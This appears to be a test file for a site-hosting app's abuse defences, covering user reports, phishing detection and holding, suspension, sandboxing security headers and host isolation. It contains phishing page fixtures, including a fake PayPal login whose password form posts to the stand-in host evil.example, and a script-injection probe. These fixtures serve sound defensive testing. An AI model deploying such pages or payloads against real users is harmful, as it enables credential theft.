import { exports } from 'cloudflare:workers';
import { expect, test, vi } from 'vitest';
import { createUserContext } from '#worker/testing/context.ts';
import { signIn } from '#worker/testing/factories.ts';
import { createClient } from '#worker/testing/request.ts';
import type { MailMessage } from '#worker/platform/mail/port.ts';
import { createUser } from '#worker/testing/factories.ts';
import { deleteSite } from './delete-site.ts';
import { listOwnSites } from './list-own-sites.ts';
import { readSite } from './read-site.ts';
import { reportSite } from './report-site.ts';
import { publishSite } from './publish-site.ts';
import { saveSite } from './save-site.ts';
import { reinstateSite, suspendSite } from './suspend-site.ts';

const HONEST =
  '<!doctype html><html><head><title>Bakery</title></head><body><h1>Bread</h1></body></html>';
const SUSPECT =
  '<!doctype html><html><head><title>Club</title></head><body><p>Members</p><form action="https://evil.example/x"><input type="password"></form></body></html>';
const PHISHING =
  '<!doctype html><html><head><title>PayPal</title></head><body><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form></body></html>';

async function publish(html = HONEST, assets: Record<string, string> = {}) {
  const ctx = await createUserContext();
  const uuid = crypto.randomUUID();
  await saveSite({ ctx, input: { uuid, html, assets } });
  await ctx.settle();
  return { ctx, uuid, url: `/s/${uuid}/index.html` };
}

async function call(path: string, init: RequestInit = {}): Promise<Response> {
  return await exports.default.fetch(
    new Request(`http://localhost${path}`, { redirect: 'manual', ...init }),
  );
}

async function report(uuid: string, address: string): Promise<Response> {
  return await call('/report', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'cf-connecting-ip': address },
    body: JSON.stringify({ site: uuid, reason: 'It asks for my bank password.' }),
  });
}

test('a suspended site answers 451 in both languages and comes back when reinstated', async () => {
  const { ctx, uuid, url } = await publish();
  await (await call(url)).text();
  await suspendSite(ctx, uuid);
  const english = await call(url);
  expect([english.status, (await english.text()).includes('has been suspended')]).toEqual([
    451,
    true,
  ]);
  expect(english.headers.get('content-security-policy')).toMatch(/^sandbox /);
  const italian = await call(url, { headers: { 'accept-language': 'it' } });
  expect(await italian.text()).toContain('è stato sospeso');
  await reinstateSite(ctx, uuid);
  expect((await call(url)).status).toBe(200);
});

test('a save does not lift a suspension', async () => {
  const { ctx, uuid, url } = await publish();
  await suspendSite(ctx, uuid);
  const saved = await saveSite({ ctx, input: { uuid, html: HONEST.replace('Bread', 'Cake') } });
  expect(saved.site.status).toBe('suspended');
  expect((await call(url)).status).toBe(451);
});

test('strangers cannot take an honest page down, however many they are', async () => {
  const { ctx, uuid, url } = await publish();
  for (let number = 1; number <= 12; number += 1) {
    expect((await report(uuid, `10.9.0.${number}`)).status).toBe(200);
  }
  expect((await listOwnSites(ctx))[0]?.status).toBe('active');
  expect((await call(url)).status).toBe(200);
});

test('a page with a sign of our own is hidden after three reporters, until an operator decides', async () => {
  const { ctx, uuid, url } = await publish(SUSPECT);
  for (let time = 0; time < 4; time += 1) await report(uuid, '10.9.1.1');
  await report(uuid, '10.9.1.2');
  expect((await call(url)).status).toBe(200);
  await report(uuid, '10.9.1.3');
  const hidden = await call(url, { headers: { 'accept-language': 'it' } });
  expect([hidden.status, (await hidden.text()).includes('in verifica')]).toEqual([451, true]);
  const saved = await saveSite({ ctx, input: { uuid, html: HONEST } });
  expect(saved.site.status).toBe('review');
  await deleteSite({ ctx, input: { uuid } });
  await expect(saveSite({ ctx, input: { uuid, html: HONEST } })).rejects.toMatchObject({
    code: 'sites.address-closed',
  });
});

test('signs that only the shown page bears count for reports as well', async () => {
  const { ctx, uuid, url } = await publish();
  await publishSite({ ctx, input: { uuid, seen: 'warn' } });
  for (const address of ['10.9.2.1', '10.9.2.2', '10.9.2.3']) await report(uuid, address);
  expect((await call(url)).status).toBe(451);
});

test('each report is mailed to every operator, and a hidden page to its owner, with how to object', async () => {
  const { ctx, uuid } = await publish(SUSPECT);
  const italian = await createUser({ language: 'it' });
  const sent: MailMessage[] = [];
  const mail = {
    enabled: true,
    delivers: true,
    send: async (message: MailMessage) => void sent.push(message),
  };
  const config = {
    ...ctx.config,
    OPERATORS: [italian.email, 'ops@example.com'],
    CONTACT_EMAIL: 'help@example.com',
  };
  const input = { site: uuid, reason: 'It wants my card.', contact: 'ann@example.com' };
  const telling = { ...ctx, mail, config };
  for (const address of ['10.9.5.1', '10.9.5.2', '10.9.5.3']) {
    await reportSite({ ctx: telling, input, address, origin: 'https://app.test' });
  }
  await ctx.settle();
  expect(sent.map(({ to, subject }) => [to, subject])).toEqual([
    [italian.email, 'Un sito Bluewave è stato segnalato'],
    ['ops@example.com', 'A Bluewave site was reported'],
    [italian.email, 'Un sito Bluewave è stato segnalato'],
    ['ops@example.com', 'A Bluewave site was reported'],
    [`${ctx.userId}@example.com`, 'Your Bluewave site is being reviewed'],
    [italian.email, 'Un sito segnalato è nascosto finché non lo controlli'],
    ['ops@example.com', 'A reported site is hidden until you have looked at it'],
  ]);
  const texts = sent.map(({ text }) => text);
  expect(texts[1]).toContain(`https://app.test/s/${uuid}/index.html`);
  expect(texts[1]).toContain('It wants my card.');
  expect(texts[1]).toContain('ann@example.com');
  expect(texts[1]).toContain('https://app.test/admin');
  expect(texts[4]).toContain('https://app.test/contact');
  expect(texts[4]).not.toContain('ann@example.com');
  expect(sent[4]?.replyTo).toBe('help@example.com');
});

test('one address may report five times an hour', async () => {
  const { uuid } = await publish();
  const client = createClient({ settings: { RATE_LIMITS: 'on' } });
  const statuses: number[] = [];
  for (let time = 0; time < 6; time += 1) {
    statuses.push((await client.post('/report', { site: uuid, reason: 'Again' })).status);
  }
  expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
});

test('the report form works without a script, and takes a whole address', async () => {
  const { uuid } = await publish();
  const form = await call(`/report?site=${uuid}`, { headers: { 'accept-language': 'it' } });
  expect(form.headers.get('content-security-policy')).toContain("default-src 'none'");
  expect(await form.text()).toContain(`value="${uuid}"`);
  const hostile = await call('/report?site=%22%3E%3Cscript%3E');
  expect(await hostile.text()).not.toContain('<script');
  const sent = await call('/report', {
    method: 'POST',
    headers: { 'cf-connecting-ip': '10.9.2.1' },
    body: new URLSearchParams({ site: `https://app.test/s/${uuid}/index.html`, reason: 'Malware' }),
  });
  expect([sent.status, (await sent.text()).includes('Thank you')]).toEqual([200, true]);
});

test('bad reports are refused: unknown site, no reason, another site’s form', async () => {
  const { uuid } = await publish();
  const send = async (body: object, headers: Record<string, string> = {}) =>
    (
      await call('/report', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'cf-connecting-ip': '10.9.3.1', ...headers },
        body: JSON.stringify(body),
      })
    ).status;
  expect(await send({ site: crypto.randomUUID(), reason: 'It is bad' })).toBe(404);
  expect(await send({ site: uuid, reason: '' })).toBe(400);
  expect(await send([])).toBe(400);
  expect(await send({ site: uuid, reason: 'forged' }, { 'sec-fetch-site': 'cross-site' })).toBe(
    403,
  );
});

test('a report that another origin sends, or whose form is broken, is refused', async () => {
  const { uuid } = await publish();
  const send = async (headers: Record<string, string>, body: string) =>
    (await call('/report', { method: 'POST', headers, body })).status;
  const report = JSON.stringify({ site: uuid, reason: 'It is bad' });
  const json = { 'content-type': 'application/json', 'cf-connecting-ip': '10.9.4.1' };
  expect([
    await send({ ...json, origin: 'https://evil.example' }, report),
    await send({ ...json, origin: 'null' }, report),
    await send({ ...json, 'sec-fetch-site': 'same-site' }, report),
    await send({ ...json, origin: 'http://localhost' }, report),
  ]).toEqual([403, 403, 403, 200]);
  const multipart = { ...json, 'content-type': 'multipart/form-data; boundary=x' };
  expect([
    await send(multipart, '--x\r\nno part'),
    await send({ ...json, 'content-type': 'multipart/form-data' }, report),
  ]).toEqual([400, 400]);
});

test('a page that imitates a brand is saved and held back until it is changed', async () => {
  const { ctx, uuid, url } = await publish(PHISHING);
  expect((await listOwnSites(ctx))[0]?.status).toBe('held');
  const page = await call(url);
  expect([page.status, page.headers.get('x-robots-tag')]).toEqual([403, 'noindex']);
  const text = await page.text();
  expect(text).toContain('in the name of a known brand');
  expect(text).not.toContain('type="password"');
  const italian = await call(url, { headers: { 'accept-language': 'it' } });
  expect(await italian.text()).toContain('a nome di un marchio noto');
  expect((await readSite({ ctx, input: { uuid } })).html).toBe(PHISHING);
  expect(ctx.logged).toContainEqual({
    event: 'sec.site_flagged',
    fields: { site: uuid, signs: ['secret', 'foreign-form', 'brand-claim', 'brand-voice'] },
  });
  const cleaned = await saveSite({ ctx, input: { uuid, html: HONEST } });
  expect(cleaned.site.status).toBe('active');
  expect((await call(url)).status).toBe(200);
});

test('every file of a site is judged, those that an earlier save stored too', async () => {
  const { ctx, uuid, url } = await publish();
  const login = '<h1>Sign in to PayPal</h1><input type="password">';
  const held = await saveSite({
    ctx,
    input: { uuid, html: HONEST, assets: { 'a/b.html': login } },
  });
  const kept = await saveSite({ ctx, input: { uuid, html: `${HONEST}<!-- 2 -->` } });
  expect([held.site.status, kept.site.status, (await call(url)).status]).toEqual([
    'held',
    'held',
    403,
  ]);
  const removed = { uuid, html: HONEST, assets: { 'a/b.html': null } };
  expect((await saveSite({ ctx, input: removed })).site.status).toBe('active');
  const script = { 'a.js': 'document.body.innerHTML = `<h1>PayPal</h1><input type=password>`' };
  const scripted = await saveSite({ ctx, input: { uuid, html: HONEST, assets: script } });
  expect(scripted.site.status).toBe('held');
});

test('a page that is held back is shown once a review has put it back', async () => {
  const { ctx, uuid, url } = await publish(PHISHING);
  await reinstateSite(ctx, uuid);
  expect((await call(url)).status).toBe(200);
});

test('a site with an address on a list of threats is held back, and one that cannot be looked up is not', async () => {
  const base = await createUserContext();
  const ctx = { ...base, config: { ...base.config, WEB_RISK_API_KEY: 'key' } };
  const linked = HONEST.replace('Bread', '<a href="https://listed.example/a">Bread</a>');
  const lookUp = vi.spyOn(globalThis, 'fetch');
  lookUp.mockImplementation(async () => Response.json({ threat: { threatTypes: ['MALWARE'] } }));
  const save = async (html: string) =>
    (await saveSite({ ctx, input: { uuid: crypto.randomUUID(), html } })).site.status;
  const statuses = [await save(linked), await save(HONEST)];
  lookUp.mockImplementation(async () => new Response('', { status: 503 }));
  statuses.push(await save(linked));
  expect(statuses).toEqual(['held', 'active', 'active']);
  expect(lookUp).toHaveBeenCalledTimes(2);
  await base.settle();
  expect(base.logged.map(({ event }) => event)).toEqual([
    'sec.site_flagged',
    'sites.reputation_unknown',
  ]);
  lookUp.mockRestore();
});

test('a page that looks like phishing is saved, flagged, noted and shown with a notice', async () => {
  const { ctx, uuid, url } = await publish(SUSPECT);
  expect((await listOwnSites(ctx))[0]?.status).toBe('flagged');
  const opening = { 'sec-fetch-dest': 'document' };
  const page = await call(url, { headers: opening });
  expect([page.status, page.headers.get('x-robots-tag')]).toEqual([200, 'noindex']);
  expect(page.headers.get('content-security-policy')).toContain(
    "base-uri 'none'; form-action 'none'; frame-src 'self'",
  );
  const text = await page.text();
  expect(text).toContain('not affiliated with any company');
  expect(text).not.toContain('type="password"');
  const [, source = ''] = /src="([^"]+)"/.exec(text) ?? [];
  const inside = await call(source, { headers: { 'sec-fetch-dest': 'iframe' } });
  expect(await inside.text()).toContain('type="password"');
  const opened = await call(source, { headers: { 'sec-fetch-dest': 'document' } });
  expect(await opened.text()).not.toContain('type="password"');
  const italian = await call(url, { headers: { ...opening, 'accept-language': 'it' } });
  expect([italian.headers.get('vary'), await italian.text()]).toEqual([
    'accept, accept-language, sec-fetch-dest',
    expect.stringContaining('non ha legami con le aziende'),
  ]);
  expect(ctx.logged).toContainEqual({
    event: 'sec.site_flagged',
    fields: { site: uuid, signs: ['secret', 'foreign-form'] },
  });
  const cleaned = await saveSite({ ctx, input: { uuid, html: HONEST } });
  expect(cleaned.site.status).toBe('active');
});

test('a browser that does not say what it asks for gets no flagged page without the strip, at any address', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>Drawing</text></svg>';
  const { url } = await publish(SUSPECT, { 'c.svg': svg });
  const folder = url.replace('index.html', '');
  const opening = { headers: { accept: 'text/html,application/xhtml+xml' } };
  for (const path of ['index.html', 'index.html?bluewave-inside=1', 'c.svg']) {
    const answer = await call(`${folder}${path}`, opening);
    const text = await answer.text();
    expect([answer.status, answer.headers.get('content-type')]).toEqual([
      200,
      'text/html; charset=utf-8',
    ]);
    expect(text).toContain('not affiliated with any company');
    expect(text).toContain(
      path === 'c.svg' ? 'srcdoc="&lt;svg xmlns=&quot;' : 'type=&quot;password',
    );
    expect(text).not.toContain('type="password"');
    expect(answer.headers.get('content-security-policy')).toMatch(
      /^script-src 'none'; object-src 'none'; base-uri 'self'; frame-src 'self'; frame-ancestors/,
    );
  }
  const picture = await call(`${folder}c.svg`, { headers: { accept: 'image/webp,*/*' } });
  expect([picture.headers.get('content-type'), await picture.text()]).toEqual([
    'image/svg+xml; charset=utf-8',
    svg,
  ]);
});

test('security.txt names where to write and expires in the future', async () => {
  const response = await call('/.well-known/security.txt');
  const text = await response.text();
  expect(response.headers.get('content-type')).toMatch(/^text\/plain/);
  const names = text.split('\n').map((line) => line.replace(/:.*/, ''));
  expect(names).toEqual(['Contact', 'Expires', 'Preferred-Languages', 'Canonical', '']);
  expect(text).toContain('Contact: http://localhost/contact');
  expect(Date.parse(/Expires: (.+)/.exec(text)?.[1] ?? '')).toBeGreaterThan(Date.now());
});

test('security.txt names the mailbox of whoever runs the deployment first, on every host', async () => {
  const settings = { ...HOSTS, CONTACT_EMAIL: 'help@example.com' };
  for (const host of ['https://app.test', 'https://usersites.test']) {
    const text = await (await onHosts(`${host}/.well-known/security.txt`, settings)).text();
    expect(text).toContain(
      'Contact: mailto:help@example.com\nContact: https://app.test/contact\nExpires: ',
    );
    expect(text).toContain('Canonical: https://app.test/.well-known/security.txt\n');
  }
});

async function onHosts(address: string, settings: Record<string, string>): Promise<Response> {
  const { origin, pathname, search } = new URL(address);
  return await createClient({ origin, settings }).get(`${pathname}${search}`, { site: null });
}

const HOSTS = { APP_ORIGIN: 'https://app.test', SITES_HOST: 'usersites.test' };

test('with a host of their own, sites are served there and nowhere else, and nothing else is', async () => {
  const { url } = await publish();
  const moved = await onHosts(`https://app.test${url}?a=1`, HOSTS);
  expect([moved.status, moved.headers.get('location')]).toEqual([
    308,
    `https://usersites.test${url}?a=1`,
  ]);
  for (const path of [url.replace('/s/', '/sites/'), url.replace('index.html', 'a.svg')]) {
    const answer = await onHosts(`https://app.test${path}`, HOSTS);
    expect([answer.status, answer.headers.get('location')]).toEqual([
      308,
      `https://usersites.test${path}`,
    ]);
  }
  const served = await onHosts(`https://usersites.test${url}`, HOSTS);
  expect(served.status).toBe(200);
  expect(served.headers.get('content-security-policy')).toContain(
    "frame-ancestors 'self' https://app.test",
  );
  for (const path of [
    '/api/health',
    '/api/sites',
    '/auth/google',
    '/sites/x/index.html',
    '/login',
    '/',
  ]) {
    expect([path, (await onHosts(`https://usersites.test${path}`, HOSTS)).status]).toEqual([
      path,
      404,
    ]);
  }
  expect((await onHosts('https://usersites.test/report', HOSTS)).status).toBe(200);
  expect((await onHosts('https://app.test/api/config', HOSTS)).status).toBe(200);
});

test('with a wildcard each site is served on its own host, and only there', async () => {
  const { url, uuid } = await publish();
  const hosts = { ...HOSTS, SITES_HOST: '*.usersites.test' };
  const home = `https://${uuid}.usersites.test`;
  const other = `https://${crypto.randomUUID()}.usersites.test`;
  for (const origin of ['https://app.test', other, 'https://usersites.test']) {
    const answer = await onHosts(`${origin}${url}`, hosts);
    expect([answer.status, answer.headers.get('location')]).toEqual([308, `${home}${url}`]);
  }
  const served = await onHosts(`${home}${url}`, hosts);
  expect([served.status, served.headers.get('content-security-policy')]).toEqual([
    200,
    expect.stringMatching(/^sandbox allow-scripts .* frame-ancestors 'self' https:\/\/app\.test$/),
  ]);
});

test('the sites’ host leads people who look for the app to it, in their language', async () => {
  const page = await onHosts('https://usersites.test/login', HOSTS);
  expect([page.status, page.headers.get('x-robots-tag')]).toEqual([404, 'noindex']);
  expect(await page.text()).toContain('<a href="https://app.test/">Go to Bluewave</a>');
});

test('a cookie that arrives on the sites’ host opens no session, and no other host takes a call', async () => {
  const { client } = await signIn(undefined, { settings: HOSTS, origin: 'https://app.test' });
  expect((await client.get('/api/sites')).status).toBe(200);
  const cookie = [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  for (const origin of ['https://usersites.test', 'https://bluewave.workers.test']) {
    const stranger = createClient({ origin, settings: HOSTS });
    const answers = [
      await stranger.get('/api/sites', { headers: { cookie } }),
      await stranger.get('/api/auth/current-user', { headers: { cookie } }),
      await stranger.post('/api/login', { email: 'a@example.com', password: 'x' }),
    ];
    expect(answers.map(({ status, headers }) => [status, headers.get('set-cookie')])).toEqual([
      [404, null],
      [404, null],
      [404, null],
    ]);
  }
});

test('a sites’ host on the app’s own domain is refused unless it is allowed by name', async () => {
  const { url } = await publish();
  const same = { APP_ORIGIN: 'https://app.test', SITES_HOST: 'sites.app.test' };
  expect((await onHosts(`https://sites.app.test${url}`, same)).status).toBe(503);
  const allowed = { ...same, SITES_HOST_SAME_SITE_OK: '1' };
  expect((await onHosts(`https://sites.app.test${url}`, allowed)).status).toBe(200);
});
